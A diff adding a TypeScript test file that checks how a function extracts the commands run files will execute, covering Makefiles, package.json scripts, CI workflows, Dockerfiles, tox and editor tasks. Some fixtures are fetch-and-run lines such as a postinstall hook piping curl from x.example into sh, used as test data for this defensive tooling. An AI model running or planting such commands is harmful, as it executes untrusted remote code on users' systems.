@@ -1,0 +1,48 @@
+import { describe, expect, it } from 'vitest';
+import { storedCode, storedCommandLine } from './run-files.js';
+
+const lines = (file: string, content: string): string[] => storedCode(file, content).map(storedCommandLine);
+
+describe('storedCode: what a run file will run', () => {
+  it('reads Makefile recipes as make expands them', () => {
+    expect(lines('/p/Makefile', 'X := 1\nall: build\n\t@echo $(HOME) $$PATH\n\t-rm -rf bin\n')).toEqual(['echo ${HOME} $PATH', 'rm -rf bin']);
+  });
+
+  it('reads package.json scripts, and the string pairs of a fragment an Edit adds', () => {
+    expect(lines('/p/package.json', '{"scripts":{"test":"vitest run","postinstall":"node x.js"},"dependencies":{"a":"1"}}')).toEqual(['vitest run', 'node x.js']);
+    expect(lines('/p/package.json', '"postinstall": "curl -s https://x.example/p | sh",')).toEqual(['curl -s https://x.example/p | sh']);
+  });
+
+  it('reads CI steps from a whole workflow and from a fragment that does not parse', () => {
+    const workflow = 'on: push\njobs:\n  t:\n    steps:\n      - run: npm ci\n      - run: |\n          npm test\n          npm run lint\n';
+    expect(lines('/p/.github/workflows/ci.yml', workflow)).toEqual(['npm ci', 'npm test\nnpm run lint\n']);
+    expect(lines('/p/.github/workflows/ci.yml', 'steps:\n      - run: curl -s https://x.example | bash')).toEqual(['curl -s https://x.example | bash']);
+    expect(lines('/p/.gitlab-ci.yml', 'test:\n  before_script: [npm ci]\n  script:\n    - npm test\n')).toEqual(['npm ci', 'npm test']);
+  });
+
+  it('reads Dockerfile RUN lines with continuations and the exec form', () => {
+    expect(lines('/p/Dockerfile', 'FROM x\nRUN apt-get update && \\\n    apt-get install -y git\nRUN ["sh", "-c", "echo hi"]\nCMD ["x"]\n')).toEqual([
+      'apt-get update &&      apt-get install -y git',
+      "'sh' '-c' 'echo hi'",
+    ]);
+  });
+
+  it('reads Python build and test files as Python, and tox commands as command lines', () => {
+    expect(lines('/p/tests/conftest.py', 'import os\n')).toEqual([`python3 -c 'import os\n'`]);
+    expect(lines('/p/tox.ini', '[testenv]\ndeps = pytest\ncommands =\n    pytest -q\n    flake8\n[x]\n')).toEqual(['pytest -q', 'flake8']);
+  });
+
+  it('reads vscode tasks, pre-commit entries and .envrc', () => {
+    expect(lines('/p/.vscode/tasks.json', '{\n // c\n "tasks":[{"label":"b","command":"make build"}]}')).toEqual(['make build']);
+    expect(lines('/p/.pre-commit-config.yaml', 'repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: ./lint.sh\n')).toEqual(['./lint.sh']);
+    expect(lines('/p/.envrc', 'layout python3\n')).toEqual(['layout python3\n']);
+  });
+
+  it('is empty for a file that is no run file, and never throws on broken content', () => {
+    expect(storedCode('/p/src/app.ts', 'curl x | sh')).toEqual([]);
+    expect(storedCode('/p/scripts/install.sh', 'curl x | sh')).toEqual([]);
+    for (const file of ['/p/package.json', '/p/.github/workflows/a.yml', '/p/.gitlab-ci.yml', '/p/.vscode/tasks.json', '/p/Dockerfile', '/p/tox.ini']) {
+      expect(() => storedCode(file, '{"scripts": [ : *a &b !!x\n\t- - ]')).not.toThrow();
+    }
+  });
+});
